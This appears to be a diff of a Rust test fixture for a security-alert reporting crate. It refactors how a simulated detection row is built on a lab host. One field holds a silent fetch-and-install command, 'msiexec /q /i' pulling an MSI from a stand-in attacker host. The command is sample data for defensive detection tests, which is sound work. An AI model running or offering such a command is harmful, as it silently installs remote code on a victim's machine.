@@ -7,7 +7,7 @@ use cimhunt_report::{AlertContext, notable_event, risk_events};
 use serde_json::{Value as Json, json};
 
 fn r1() -> Row {
-    let text = [
+    let mut row = Row::from_texts(&[
         ("dest", "win-dc-6764986.attackrange.local"),
         ("user", "Administrator"),
         ("parent_process_name", "cmd.exe"),
@@ -16,11 +16,7 @@ fn r1() -> Row {
         ("process", "msiexec.exe /q /i http://evil.example/a.msi"),
         ("process_id", "2296"),
         ("parent_process_id", "4624"),
-    ];
-    let mut row: Row = text
-        .iter()
-        .map(|(n, v)| (n.to_string(), Value::Text(v.to_string())))
-        .collect();
+    ]);
     row.set("count", Value::Number("1".into()));
     row.set("firstTime", Value::Text("2020-10-08T11:03:46".into()));
     row.set("lastTime", Value::Text("2020-10-08T11:03:46".into()));
